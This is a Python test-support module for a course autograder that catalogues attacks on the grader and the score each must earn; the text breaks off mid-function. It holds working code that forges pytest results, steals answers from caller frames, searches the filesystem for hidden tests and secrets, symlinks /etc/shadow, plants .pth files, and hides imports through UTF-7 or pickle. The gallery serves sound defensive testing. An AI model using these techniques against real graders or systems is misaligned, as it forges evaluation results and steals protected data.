"""The gallery of bad submissions: attacks on the autograder, and what each must earn.

A library of the instructors' checks, shared by ``instructor_tests/test_autograder.py`` (local mode: no
sandbox user) and ``.ci/gradescope_e2e.py`` (Gradescope emulated as root, tests run as the sandbox
user). It is not part of the grader: the Gradescope zip and the bundle leave it out
(``autograder.make_handout.NOT_GRADER_CODE``). Every case is graded on the gallery
modules only (fast); a case is a function of the reference solution's files and the handout's
stubs, so each attack is written once.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import sysconfig
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

from autograder.make_handout import REPO_ROOT
from cs288_lm.common import predictions

NN_UTILS = "cs288_lm/nn_utils.py"
BPE = "cs288_lm/bpe.py"
TRAIN_BPE_MODULE = "tests/test_train_bpe.py"
TOKENIZER = "cs288_lm/tokenizer.py"
CHECKPOINTING = "cs288_lm/checkpointing.py"
TOKENIZER_MODULES = ("tests/test_tokenizer.py", "autograder/hidden_tests/test_tokenizer_hidden.py")
MODEL = "cs288_lm/model.py"
NO_FUNCTIONAL_MODULES = ("tests/test_no_functional.py", "autograder/hidden_tests/test_no_functional_hidden.py")
GALLERY_MODULE = "tests/test_nn_utils.py"  # small and fast: every module runs through the same sandbox
LATER_MODULE = "tests/test_model.py"  # for attacks that try to reach a later module
PREDICTIONS = ("finetuned_predictions.json", "prompting_predictions.json")
DAEMON_MARKER = "cs288-gallery-daemon"
LEAK_MARKER = "CS288-LEAKED"
IPC_KEY = 0x43533238  # the System V key of the IPC attack's segment, queue and semaphore set
IPC_MARKER = "CS288-IPC-KEPT"
PLANTED_NAME = "cs288-gallery-planted.pth"  # empty: harmless if it were ever written

Files = dict[str, bytes]


@dataclass(frozen=True)
class Case:
    """One submission: how to make its files, its time limit, and what it must get.

    ``modules``: the test modules it is graded on. ``full_points``: whether it earns every point of
    their problems (else none), except the share of the tests named in ``failing``, which must fail.
    ``lost``: if given, the problems (by name) that earn nothing while every other problem graded
    earns every point. ``reason``: text that must appear in the output of one of its entries.
    """

    name: str
    make: Callable[[Files, Files], Files]
    modules: tuple[str, ...] = (GALLERY_MODULE,)
    seconds: float = 60
    full_points: bool = False
    lost: tuple[str, ...] = ()
    reason: str = ""
    flags: list[str] = field(default_factory=list)
    failing: tuple[str, ...] = ()


def with_code(code: str, base: str = "stub") -> Callable[[Files, Files], Files]:
    """The solution (or the bare handout) with ``code`` run when nn_utils.py is imported."""

    def make(solution: Files, stubs: Files) -> Files:
        files = dict(solution) if base == "solution" else {**solution, **stubs}
        source = files[NN_UTILS].decode()
        anchor = "from __future__ import annotations\n"
        files[NN_UTILS] = source.replace(anchor, anchor + textwrap.dedent(code) + "\n", 1).encode()
        return files

    return make


def with_code_in(module: str, code: str) -> Callable[[Files, Files], Files]:
    """The solution with ``code`` run when ``module`` (a student module) is imported."""

    def make(solution: Files, stubs: Files) -> Files:
        files = dict(solution)
        anchor = "from __future__ import annotations\n"
        files[module] = files[module].decode().replace(anchor, anchor + textwrap.dedent(code) + "\n", 1).encode()
        return files

    return make


def with_predictions(name: str, data: bytes) -> Callable[[Files, Files], Files]:
    return lambda solution, stubs: {**solution, name: data}


FORGE_REPORTS_THROUGH_GC = """
import gc as _gc
import pytest as _pytest

class _Forge:
    @_pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None

for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Forge(), "forge")
        break
"""

FORGE_RECORDS_AT_EXIT = """
import atexit as _atexit, os as _os, re as _re, sys as _sys

def _forge():
    # Whatever report a path in sys.argv names, and the record pipe: claim every test passed.
    for _arg in _sys.argv:
        if _arg.startswith("--junitxml="):
            open(_arg.split("=", 1)[1], "w").write('<testsuite><testcase classname="x" name="y"/></testsuite>')
    _fd = int(_os.environ.get("CS288_RECORD_FD", "-1"))
    _names = _re.findall(r"^def (test_\\w+)", open("tests/test_nn_utils.py").read(), _re.M)
    for _name in _names:
        _id = "tests/test_nn_utils.py::" + _name
        _os.write(_fd, ('{"t":"start","test":"%s"}\\n{"t":"end","test":"%s","outcome":"passed","message":""}\\n' % (_id, _id)).encode())

_atexit.register(_forge)
"""

FORGE_STREAM_THEN_EXIT = """
import json as _json, os as _os, re as _re
_fd = int(_os.environ.get("CS288_RECORD_FD", "-1"))
if _fd >= 0:
    for _module in ("tests/test_nn_utils.py",):
        for _name in _re.findall(r"^def (test_\\w+)", open(_module).read(), _re.M):
            _id = _module + "::" + _name
            _lines = [{"t": "start", "test": _id},
                      {"t": "check", "kind": "close", "site": "x", "actual": {"float": "0.0"}, "rtol": 1, "atol": 1e9, "against": "reference"},
                      {"t": "end", "test": _id, "outcome": "passed", "message": ""}]
            _os.write(_fd, "".join(_json.dumps(_l) + "\\n" for _l in _lines).encode())
    _os._exit(0)
"""

# Every check records the test's own expected value as the answer (in tests.graded and in each
# test module, through a plugin registered on pytest's live Config); the functions return 0.
RECORD_EXPECTED_AS_ACTUAL = """
import gc as _gc
import tests.graded as _graded
_close, _equal = _graded.check_close, _graded.check_equal

def _forged_close(actual, expected, **kw):
    return _close(expected, expected, **kw)

def _forged_equal(actual, expected, **kw):
    return _equal(expected, expected, **kw)

class _Patch:
    def pytest_runtest_setup(self, item):
        for _module in (_graded, item.module):
            if hasattr(_module, "check_close"):
                _module.check_close, _module.check_equal = _forged_close, _forged_equal

for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Patch(), "patch")
        break
"""


# A correct trainer that is slow on the speed test's call (vocabulary 500), and a time_limit,
# installed in every test module, that runs the block first and only then goes through the
# grader's handshake (start, acknowledgement, stop with its token), or sends a made-up token.
SLOW_TRAINER = """
import time as _time

def _slowly(train):
    def slow(input_path, vocab_size, *args, **kwargs):
        if vocab_size == 500:
            _time.sleep(3)
        return train(input_path, vocab_size, *args, **kwargs)
    return slow
"""

# Replaces time_limit, in tests.graded and in each test module, with ``_patched(seconds)``, a
# context manager whose body is put at BODY.
PATCHED_TIME_LIMIT = """
import contextlib as _contextlib, gc as _gc
import tests.graded as _graded

@_contextlib.contextmanager
def _patched(seconds):
BODY

class _Patch:
    def pytest_runtest_setup(self, item):
        for _module in (_graded, item.module):
            if hasattr(_module, "time_limit"):
                _module.time_limit = _patched

for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Patch(), "patched-time-limit")
        break
"""


def slow_trainer_with_time_limit(body: str) -> Callable[[Files, Files], Files]:
    """The solution's BPE trainer, slow on the speed test, timed by a time_limit whose body is ``body``."""

    def make(solution: Files, stubs: Files) -> Files:
        patch = PATCHED_TIME_LIMIT.replace("BODY", textwrap.indent(textwrap.dedent(body).strip(), "    "))
        files = with_code_in(BPE, SLOW_TRAINER + patch)(solution, stubs)
        files[BPE] = (files[BPE].decode() + "\n\ntrain_bpe = _slowly(train_bpe)\n").encode()
        return files

    return make


def speed_case(name: str, body: str, reason: str) -> Case:
    """A slow trainer with a patched time_limit (``body``): it must lose only the speed test."""
    return Case(
        name,
        slow_trainer_with_time_limit(body),
        (TRAIN_BPE_MODULE,),
        full_points=True,
        failing=("test_training_speed",),
        reason=reason,
    )


# The block runs first; then its start and its stop are sent together, the stop with ``token``.
def block_first(token: str) -> str:
    return f"""
        yield
        _graded.record_check("timer_start")
        _graded.record_check("timer_stop", limit=seconds, token={token})
    """


# A checkpoint kept in the saving process's memory, with a tag in the file: every round trip in one
# process passes (found by a fresh attack); a fresh process that loads the file cannot.
CHECKPOINT_IN_MEMORY = """

import copy as _copy

_SAVED = []


def save_checkpoint(model, optimizer, iteration, out):
    _SAVED.append((_copy.deepcopy(model.state_dict()), _copy.deepcopy(optimizer.state_dict()), iteration))
    tag = ("ckpt%08d" % (len(_SAVED) - 1)).encode()
    if isinstance(out, (str, os.PathLike)):
        with open(out, "wb") as file:
            file.write(tag)
    else:
        out.write(tag)


def load_checkpoint(src, model, optimizer):
    if isinstance(src, (str, os.PathLike)):
        with open(src, "rb") as file:
            tag = file.read(12)
    else:
        tag = src.read(12)
    state, optimizer_state, iteration = _SAVED[int(tag[4:])]
    model.load_state_dict(_copy.deepcopy(state))
    optimizer.load_state_dict(_copy.deepcopy(optimizer_state))
    return iteration
"""


# The block runs first; then a line of no known type, so that the line before the start (where
# the grader's clock starts) comes after the work; then the start and the stop with the real token.
EXTRA_LINE_FIRST = """
    yield
    _graded._stream.write({"t": "noop"})
    _graded.record_check("timer_start")
    _graded.record_check("timer_stop", limit=seconds, token=_graded._acks.next_token(60))
"""

# The stop is sent, with the grader's real token, as soon as the grader answers the start, before
# the block runs.
STOP_FIRST = """
    _graded.record_check("timer_start")
    _graded.record_check("timer_stop", limit=seconds, token=_graded._acks.next_token(60))
    yield
"""


# A tokenizer that does no work: it returns what its caller's frames hold (any list of ids for
# encode, the text or expected string for decode). On the tests as students read them it passes
# round trips and hand-worked cases; the stripped tests hold nothing it could return.
FRAME_THIEF = """


import sys as _sys


def _held_values():
    frame = _sys._getframe(2)
    while frame is not None:
        if "test" in frame.f_code.co_filename.rsplit("/", 1)[-1]:
            yield from list(frame.f_locals.items())
            yield from ((None, c) for c in frame.f_code.co_consts)
        frame = frame.f_back


def _steal_ids(self, text=None):
    for _, value in _held_values():
        if isinstance(value, list) and value and all(type(v) is int for v in value):
            return list(value)
    return []


def _steal_text(self, ids=()):
    for name, value in _held_values():
        if name in ("text", "expected") and isinstance(value, str):
            return value
    return ""


def _steal_stream(self, iterable):
    yield from _steal_ids(self)


def _no_work(self, *args, **kwargs):
    pass


Tokenizer.__init__ = _no_work
Tokenizer.encode, Tokenizer.decode, Tokenizer.encode_iterable = _steal_ids, _steal_text, _steal_stream
"""

# Every pytest.raises recorded as raised, with the expected class and a message its pattern
# matches: on a bare stub the exception checks alone would pass.
FORGED_RAISES = """
import tests.graded as _graded


def _forged_exit(self, exc_type, exc_value, traceback):
    _graded.record_check(
        "raises", expected=self._expected, match=self._match, raised=list(self._expected), message=self._match or ""
    )
    return True


_graded._RecordedRaises.__exit__ = _forged_exit
"""


def stubs_with(module: str, code: str) -> Callable[[Files, Files], Files]:
    """The bare handout with ``code`` appended to ``module`` (a student module)."""
    return lambda solution, stubs: {**solution, **stubs, module: stubs[module] + code.encode()}


# The first value of test_softmax_is_stable_for_large_inputs replaced by a .npy header that
# declares 2**45 float64 values (256 TiB) over 8 bytes.
NPY_HEADER_BOMB = """
import base64 as _base64, io as _io, os as _os
import numpy as _np
import tests.graded as _graded

_buffer = _io.BytesIO()
_np.lib.format.write_array_header_1_0(_buffer, {"descr": "<f8", "fortran_order": False, "shape": (2**45,)})
_BOMB = {"array": {"dtype": "torch.float32", "npy": _base64.b64encode(_buffer.getvalue() + bytes(8)).decode()}}
_record, _bombed = _graded.record_check, []

def _record_check(kind, **fields):
    if "test_softmax_is_stable_for_large_inputs" in _os.environ.get("PYTEST_CURRENT_TEST", "") and not _bombed:
        _bombed.append(True)
        fields["actual"] = _BOMB
    return _record(kind, **fields)

_graded.record_check = _record_check
"""

# During one test, 80 MB of tiny check records.
RECORD_FLOOD = """
import os as _os, gc as _gc

class _Flood:
    def pytest_runtest_call(self, item):
        if item.name == "test_softmax_keeps_float64":
            _line = b'{"t":"check","kind":"equal","site":"x","actual":null}\\n'
            _chunk = _line * ((1 << 16) // len(_line) + 1)
            _fd = int(_os.environ["CS288_RECORD_FD"])
            for _ in range((80 << 20) // len(_chunk)):
                _os.write(_fd, _chunk)

for _obj in _gc.get_objects():
    if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
        _obj.pluginmanager.register(_Flood(), "flood")
        break
"""


def returning_zero(make: Callable[[Files, Files], Files]) -> Callable[[Files, Files], Files]:
    """The submission of ``make`` with every unimplemented function of nn_utils.py returning 0."""

    def edit(solution: Files, stubs: Files) -> Files:
        files = make(solution, stubs)
        source = files[NN_UTILS].decode()
        files[NN_UTILS] = re.sub(r"raise NotImplementedError\(.*\)", "return 0", source).encode()
        return files

    return edit


DAEMON = f"""
import os as _os, sys as _sys
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(120)", "{DAEMON_MARKER}"])
    _os._exit(0)
_os.wait()
"""

# Looks for the bundle, the answers, the reference records, the held-out stories and the hidden
# tests' snapshots wherever it can read, keeps what it finds in /tmp, /var/tmp and /dev/shm for a
# later test module, and fails at import with all of it in the message (shown to students).
EXFILTRATE = f"""
import os as _os, time as _time
_kept, _found = [], []
for _keep in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        _kept.append(open(_os.path.join(_keep, "cs288-loot")).read())
    except OSError:
        pass
_deadline = _time.monotonic() + 8
_skipped = (".venv", "venv", "site-packages", ".git", "proc", ".pyenv", "node_modules")
for _top in ("/autograder", "/root", "/home", "/work", "/srv", "/opt", "/tmp", "/var/tmp", "/dev/shm"):
    for _dir, _subdirs, _files in _os.walk(_top):
        _subdirs[:] = [d for d in _subdirs if d not in _skipped]
        for _file in _files:
            if _file in ("test.json", "heldout.txt") or _file.endswith(".jsonl") or "secret" in _dir.split("/"):
                try:
                    _found.append(_dir + "/" + _file + ": " + open(_os.path.join(_dir, _file), errors="replace").read(200))
                except OSError:
                    pass
        if _time.monotonic() > _deadline:
            break
_found.sort(key=lambda _item: "test.json" in _item)  # answers last: a failure shows the message's end
_loot = " | ".join(_kept + _found[-5:])
for _keep in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(_os.path.join(_keep, "cs288-loot"), "w") as _out:
            _out.write("{LEAK_MARKER} " + _loot)
    except OSError:
        pass
raise RuntimeError("found: " + _loot[-1000:] + " {LEAK_MARKER}")
"""

LINKS_AND_FIFOS = """
import os as _os
for _folder in {_os.getcwd(), _os.environ.get("HOME", "."), _os.environ.get("TMPDIR", "."), _os.path.dirname(_os.getcwd())}:
    for _name in ("output.log", "log", "results.json", "report.xml"):
        _path = _os.path.join(_folder, _name)
        for _make in (lambda p: _os.symlink("/etc/shadow", p), lambda p: _os.mkfifo(p), lambda p: _os.symlink("/dev/zero", p + ".zero")):
            try:
                _make(_path)
            except OSError:
                pass
"""

DYNAMIC_IMPORTS = """
_os = __import__("os")
import importlib as _importlib
_json = _importlib.import_module("json")
exec("import math as _math")
_getter = getattr(__builtins__, "get", None)
"""


# Reads every System V shared memory segment it can attach (a hidden module could have left its
# inputs there), then leaves a marker in a segment of its own, a message queue and a semaphore set
# for a later module, and fails at import with what it read in the message (shown to students).
IPC_CARRIER = f"""
import ctypes as _ctypes
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p
_failed = _ctypes.c_void_p(-1).value
_found = []
for _line in open("/proc/sysvipc/shm").read().splitlines()[1:]:
    _address = _libc.shmat(int(_line.split()[1]), None, 0o10000)  # SHM_RDONLY
    if _address not in (None, _failed):
        _found.append(_ctypes.string_at(_address, 64).rstrip(b"\\0").decode(errors="replace"))
_kept = "{IPC_MARKER[:9]}" + "{IPC_MARKER[9:]}"
_address = _libc.shmat(_libc.shmget({IPC_KEY}, 4096, 0o1666), None, 0)  # IPC_CREAT
if _address not in (None, _failed):
    _ctypes.memmove(_address, _kept.encode(), len(_kept))
_libc.msgget({IPC_KEY}, 0o1666)
_libc.semget({IPC_KEY}, 1, 0o1666)
raise RuntimeError("ipc found: [" + " | ".join(_found) + "]")
"""

# Tries to create a file in the interpreter's library and site-packages (a .pth or a module there
# would run in every later Python process, the grader's imports included) and to open the zipfile
# module for writing (nothing is written), and says where it could.
INTERPRETER_WRITER = f"""
import os as _os, sys as _sys, sysconfig as _sysconfig, zipfile as _zipfile
_written = []
for _directory in sorted({{_sys.prefix, _sys.base_prefix, _os.path.dirname(_os.__file__), _sysconfig.get_paths()["purelib"]}}):
    try:
        open(_os.path.join(_directory, "{PLANTED_NAME}"), "w").close()
        _written.append(_directory)
    except OSError:
        pass
try:
    open(_zipfile.__file__, "ab").close()
    _written.append(_zipfile.__file__)
except OSError:
    pass
raise RuntimeError(f"planted: {{_written}}")
"""
# torch's own ops, kept at import in default arguments (no module-level name the rule's name check
# sees), before the no-functional tests replace torch.softmax, torch._C._nn.linear, ...
KEPT_IN_NN_UTILS = """

def softmax(x, dim=-1, _kept=torch.softmax):
    return _kept(x, dim)


def log_softmax(x, dim=-1, _kept=torch.log_softmax):
    return _kept(x, dim)


def cross_entropy(logits, targets, ignore_index=None, _kept=torch.log_softmax):
    keep = torch.ones_like(targets, dtype=torch.bool) if ignore_index is None else targets != ignore_index
    picked = _kept(logits, -1).gather(-1, torch.where(keep, targets, 0).unsqueeze(-1)).squeeze(-1)
    return torch.where(keep, -picked, torch.zeros_like(picked)).sum() / keep.sum().clamp_min(1)
"""
KEPT_IN_MODEL = """

def silu(x, _kept=torch._C._nn.silu):
    return _kept(x)


def _forward(self, x, _kept=torch._C._nn.linear):
    return _kept(x, self.weight)


Linear.forward = _forward
"""
# The problems whose no-functional tests reach softmax.
SOFTMAX_LOSES = (
    "softmax",
    "scaled_dot_product_attention",
    "multihead_self_attention",
    "multihead_self_attention_with_rope",
    "transformer_block",
    "transformer_lm",
)
# The problems whose no-functional tests reach those ops (the others earn every point).
KEPT_OPS_LOSE = ("linear", "SiLU", "SwiGLU", *SOFTMAX_LOSES, "cross_entropy", "perplexity")


def keeps_torch_ops(solution: Files, stubs: Files) -> Files:
    """The solution with softmax, log_softmax, cross_entropy, SiLU and Linear redefined on torch's own ops."""
    return {
        **solution,
        NN_UTILS: solution[NN_UTILS] + KEPT_IN_NN_UTILS.encode(),
        MODEL: solution[MODEL] + KEPT_IN_MODEL.encode(),
    }


# torch's softmax kernel under a name no list had (torch._masked_softmax with nothing masked),
# fetched through pickle's GLOBAL opcode so that no import or attribute names it, and sympy
# imported the same way (outside requirements.txt, but no import statement names it).
MASKED_SOFTMAX_THROUGH_PICKLE = """

import pickle as _pickle

_kernel = _pickle.loads(b"ctorch\\n_masked_" + b"softmax\\n.")
_symbol = _pickle.loads(b"csympy\\nSymbol\\n.")


def softmax(x, dim=-1):
    return _kernel(x, torch.zeros_like(x, dtype=torch.bool), dim)
"""


# In UTF-7, "+AAo-" is a line break: read as UTF-8 (as the import check and the review once did), this
# line is a comment; Python, which obeys the cookie, imports sympy (outside requirements.txt) and os.
HIDDEN_BY_UTF7 = b"# helpers +AAo-import sympy+AAo-import os as _os+AAo-\n"


def declares_utf7(solution: Files, stubs: Files) -> Files:
    """The solution's nn_utils.py in UTF-7, with a PEP 263 cookie and imports only UTF-7 shows."""
    anchor = "from __future__ import annotations\n"
    body = solution[NN_UTILS].decode().encode("utf-7")
    hidden = body.replace(anchor.encode("utf-7"), anchor.encode() + HIDDEN_BY_UTF7, 1)
    return {**solution, NN_UTILS: b"# -*- coding: utf-7 -*-\n" + hidden}


def answers() -> list[dict]:
    return json.loads((REPO_ROOT / "data/qa/test.json").read_text(encoding="utf-8"))


def predictions_with_accuracy(accuracy: float) -> bytes:
    """Predictions for the real QA test set, the first ``accuracy`` share of them right."""
    questions = answers()
    right = round(accuracy * len(questions))
    return json.dumps(
        [
            {"id": q["id"], "prediction": q["answer"] if k < right else (q["answer"] + 1) % len(q["choices"])}
            for k, q in enumerate(questions)
        ]
    ).encode()


# About 40% for the fine-tuned model (about 6 of 12 points), 45% for prompting (+5: all 8 points).
PART4_FILES = {PREDICTIONS[0]: predictions_with_accuracy(0.40), PREDICTIONS[1]: predictions_with_accuracy(0.45)}


def solution_files(bundle: Path) -> dict[str, bytes]:
    """The reference solution's student modules and predictions files of known accuracy, by relative path."""
    modules = json.loads((bundle / "manifest.json").read_text(encoding="utf-8"))["student_modules"]
    return {**{module: (REPO_ROOT / module).read_bytes() for module in modules}, **PART4_FILES}


def stub_files(bundle: Path) -> dict[str, bytes]:
    modules = json.loads((bundle / "manifest.json").read_text(encoding="utf-8"))["student_modules"]
    return {module: (bundle / "handout" / module).read_bytes() for module in modules}


def part4_points(files: dict[str, bytes]) -> dict[str, float]:
    """What the predictions files earn, computed directly with cs288_lm.common.predictions."""
    questions = answers()
    accuracies = []
    for name in PREDICTIONS:
        try:
            graded = predictions.parse_predictions(files[name], questions, source=name)
            accuracies.append(predictions.accuracy(graded, questions))
        except (KeyError, predictions.PredictionsError):
            accuracies.append(None)
    return predictions.part4_points(*accuracies, predictions.load_grading_rules())


def write_files(directory: Path, files: dict[str, bytes]) -> Path:
    for relative, data in files.items():
        (directory / relative).parent.mkdir(parents=True, exist_ok=True)
        (directory / relative).write_bytes(data)
    return directory


def problem_entries(results: dict) -> list[dict]:
    return [test for test in results["tests"] if re.match(r"Part [123]: ", test["name"])]


def valid_results_problems(results: dict) -> list[str]:
    """What is wrong with results.json for Gradescope (a score; tests with name, score, max_score,
    output and visibility, and optionally extra_data; no NaN)."""
    problems = []
    try:
        json.dumps(results, allow_nan=False)
    except ValueError as error:
        problems.append(f"not JSON: {error}")
    if not isinstance(results.get("score"), (int, float)) or results["score"] < 0:
        problems.append(f"bad total {results.get('score')!r}")
    if not isinstance(results.get("output"), str):
        problems.append("no output")
    for test in results.get("tests", []):
        if set(test) - {"extra_data"} != {"name", "score", "max_score", "output", "visibility"}:
            problems.append(f"entry with keys {sorted(test)}")
        elif test["visibility"] not in ("visible", "after_published", "hidden"):
            problems.append(f"{test['name']}: visibility {test['visibility']!r}")
        elif test["score"] > test["max_score"] + 1e-9:
            problems.append(f"{test['name']}: {test['score']} > {test['max_score']}")
    return problems


def visible_text(results: dict) -> str:
    """Everything a student sees now or once grades are published (not the instructors' entries)."""
    shown = [results["output"]] + [
        t["name"] + "\n" + t["output"] for t in results["tests"] if t["visibility"] != "hidden"
    ]
    return "\n".join(shown)


def secret_strings(bundle: Path) -> list[str]:
    """Strings only secrets hold: held-out stories, reference records, hidden snapshots' bytes."""
    heldout = (REPO_ROOT / "data/tinystories/heldout.txt").read_text(encoding="utf-8")
    strings = [heldout[1000:1060], heldout[-200:-140]]
    for path in sorted((bundle / "secret" / "reference").rglob("*.jsonl")):
        text = path.read_text(encoding="utf-8")
        start = text.find('"npy":"', len(text) // 2)
        if start >= 0:
            strings.append(text[start + 100 : start + 140])
    return strings


CANARY = Path.home() / ".cache" / "cs288-gallery-canary" / "test.json"


@contextlib.contextmanager
def planted_canary() -> Iterator[str]:
    """A secret outside the repository and the bundle (in the grading user's home), for the
    exfiltration attack to look for; removed afterwards."""
    secret = f"canary-{secrets.token_hex(16)}"
    CANARY.parent.mkdir(parents=True, exist_ok=True)
    CANARY.write_text(json.dumps([{"id": "q0", "answer": secret}]), encoding="utf-8")
    try:
        yield secret
    finally:
        shutil.rmtree(CANARY.parent, ignore_errors=True)


def leftover_ipc() -> list[str]:
    """The System V objects with the IPC attack's key (removed here, once reported)."""
    found = []
    for table, column, option in (("shm", "shmid", "-m"), ("msg", "msqid", "-q"), ("sem", "semid", "-s")):
        lines = Path("/proc/sysvipc", table).read_text().splitlines()
        rows = [dict(zip(lines[0].split(), line.split(), strict=False)) for line in lines[1:]]
        for row in rows:
            if int(row["key"]) == IPC_KEY:
                found.append(f"{table} {row[column]}")
                subprocess.run(["ipcrm", option, row[column]], check=False, capture_output=True)
    return found


def planted_files() -> list[Path]:
    """The files the interpreter writer left in this interpreter's folders (removed here, once reported)."""
    folders = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), sysconfig.get_paths()["purelib"]}
    found = [Path(folder, PLANTED_NAME) for folder in sorted(folders) if Path(folder, PLANTED_NAME).exists()]
    for path in found:
        path.unlink()
    return found


def alive_daemons() -> list[int]:
    alive = []
    for entry_ in Path("/proc").iterdir():
        try:
            if entry_.name.isdigit() and DAEMON_MARKER.encode() in (entry_ / "cmdline").read_bytes():
                alive.append(int(entry_.name))
        except OSError:
            pass
    return alive


DEEP = b"[" * 100_000 + b"]" * 100_000


def huge_int_predictions(solution: Files) -> bytes:
    """The solution's prompting predictions with one prediction a 5000-digit integer."""
    records = json.loads(solution[PREDICTIONS[1]])
    text = json.dumps(records)
    first = json.dumps(records[0])
    return text.replace(
        first, first.replace(f'"prediction": {records[0]["prediction"]}', '"prediction": ' + "9" * 5000), 1
    ).encode()


CASES = [
    Case(
        "infinite_loop_at_import",
        with_code("while True:\n    pass", "solution"),
        seconds=6,
        reason="time limit of 6 s was exceeded",
    ),
    Case(
        "memory_bomb_at_import",
        with_code("_hoard = [bytearray(10**8) for _ in range(10**6)]", "solution"),
        reason="MemoryError",
    ),
    Case("sys_exit_0_at_import", with_code("import sys\nsys.exit(0)", "solution"), reason="did not run"),
    Case("os_exit_0_at_import", with_code("import os\nos._exit(0)", "solution"), reason="did not run"),
    Case(
        "fake_pytest_output",
        with_code("print('tests/test_nn_utils.py ........... [100%]\\n== 11 passed ==', flush=True)"),
        reason="NotImplementedError: Implement",
    ),
    Case(
        "deletes_and_edits_tests",
        with_code(
            "import shutil\nshutil.rmtree('tests/_snapshots')\nopen('tests/test_nn_utils.py', 'w').write('def test_nothing():\\n    pass\\n')"
        ),
        reason="NotImplementedError",
    ),
    Case(
        "forges_reports_through_gc",
        with_code(FORGE_REPORTS_THROUGH_GC),
        reason="checks where the reference run records",
    ),
    Case("forges_reports_at_exit", with_code(FORGE_RECORDS_AT_EXIT)),
    Case("forges_record_stream_then_exits", with_code(FORGE_STREAM_THEN_EXIT), reason="where the reference"),
    Case(
        "records_expected_as_actual",
        returning_zero(with_code(RECORD_EXPECTED_AS_ACTUAL)),
        reason="where the reference has",
    ),
    Case("daemon_outlives_the_tests", with_code(DAEMON), reason="NotImplementedError"),
    Case("exfiltrates_secrets", with_code(EXFILTRATE), (LATER_MODULE, GALLERY_MODULE), reason=LEAK_MARKER),
    Case("carries_data_in_ipc", with_code(IPC_CARRIER), (LATER_MODULE, GALLERY_MODULE), reason="ipc found: ["),
    Case("writes_into_the_interpreter", with_code(INTERPRETER_WRITER), reason="planted: []"),
    Case("links_and_fifos_where_logs_were", with_code(LINKS_AND_FIFOS), reason="NotImplementedError"),
    Case(
        "dynamic_imports",
        with_code(DYNAMIC_IMPORTS, "solution"),
        full_points=True,
        flags=["__import__", "importlib", "exec"],
    ),
    Case(
        "torch_ops_kept_before_the_no_functional_patch",
        keeps_torch_ops,
        NO_FUNCTIONAL_MODULES,
        lost=KEPT_OPS_LOSE,
        reason="Part 2 forbids torch",
        flags=["torch._C"],
    ),
    Case(
        "masked_softmax_through_pickle",
        lambda solution, stubs: {**solution, NN_UTILS: solution[NN_UTILS] + MASKED_SOFTMAX_THROUGH_PICKLE.encode()},
        NO_FUNCTIONAL_MODULES,
        lost=SOFTMAX_LOSES,
        reason="Part 2 forbids torch",
        flags=["dynamic import: imports pickle", "dynamic import: pickle.loads(...)"],
    ),
    Case(
        "utf7_cookie_hides_imports",
        declares_utf7,
        reason=f"{NN_UTILS} declares the utf-7 encoding (line 1), not UTF-8",
        flags=[f"{NN_UTILS}:1: source encoding: declares utf-7: graded as the stub"],
    ),
    Case(
        "huge_int_prediction",
        lambda solution, stubs: {**solution, PREDICTIONS[1]: huge_int_predictions(solution)},
        full_points=True,
        reason="an integer of 5,000 digits",
    ),
    Case(
        "deeply_nested_prediction", with_predictions(PREDICTIONS[1], DEEP), full_points=True, reason="nested more than"
    ),
    Case(
        "frame_thief_tokenizer",
        stubs_with(TOKENIZER, FRAME_THIEF),
        TOKENIZER_MODULES,
        seconds=120,
        reason="where the reference has",
        flags=["sys._getframe"],
    ),
    Case(
        "forged_raises_records",
        stubs_with(TOKENIZER, FORGED_RAISES),
        (TOKENIZER_MODULES[0], TRAIN_BPE_MODULE),
        seconds=120,
        reason="NotImplementedError",
    ),
    speed_case(
        "slow_trainer_timed_after_the_block",
        block_first("_graded._acks.next_token(60)"),
        "by the grader's clock; the limit is 1.5 s",
    ),
    speed_case("slow_trainer_stopped_early", STOP_FIRST, "by the grader's clock; the limit is 1.5 s"),
    speed_case("slow_trainer_timed_after_an_extra_line", EXTRA_LINE_FIRST, "a record of unknown type 'noop'"),
    speed_case(
        "slow_trainer_with_a_made_up_token", block_first("'0' * 32"), "the timed block did not wait for the grader"
    ),
    Case(
        "checkpoint_kept_in_memory",
        lambda solution, stubs: {**solution, CHECKPOINTING: solution[CHECKPOINTING] + CHECKPOINT_IN_MEMORY.encode()},
        ("tests/test_training_utils.py",),
        full_points=True,
        failing=("test_checkpoint_loads_in_a_fresh_process",),
        reason="checkpoint_loads_in_a_fresh_process",
    ),
    Case(
        "npy_header_bomb",
        with_code(NPY_HEADER_BOMB, "solution"),
        full_points=True,
        failing=("test_softmax_is_stable_for_large_inputs",),
        reason="an array whose header declares 281474976710656 bytes where it holds 8",
    ),
    Case(
        "record_flood",
        with_code(RECORD_FLOOD, "solution"),
        full_points=True,
        failing=("test_softmax_keeps_float64",),
        reason="more than 20000 checks",
    ),
]


def failing_shares(case: Case, bundle: Path) -> dict[str, float]:
    """Per problem entry, the share of its scored tests (in the case's modules) that ``case.failing`` names."""
    manifest = json.loads((bundle / "manifest.json").read_text(encoding="utf-8"))
    config = json.loads((bundle / "grading_config.json").read_text(encoding="utf-8"))
    parts = {problem["name"]: problem["part"] for problem in config["problems"]}
    scored: dict[str, list[str]] = {}
    for module in case.modules:
        entry = manifest["modules"][module]
        side = "public" if module.startswith("tests/") else "hidden"
        for test in entry["tests"]:
            problem = entry["problems"].get(test)
            if problem and test not in entry["given"]:
                scored.setdefault(f"Part {parts[problem]}: {problem} ({side} tests)", []).append(test)
    return {
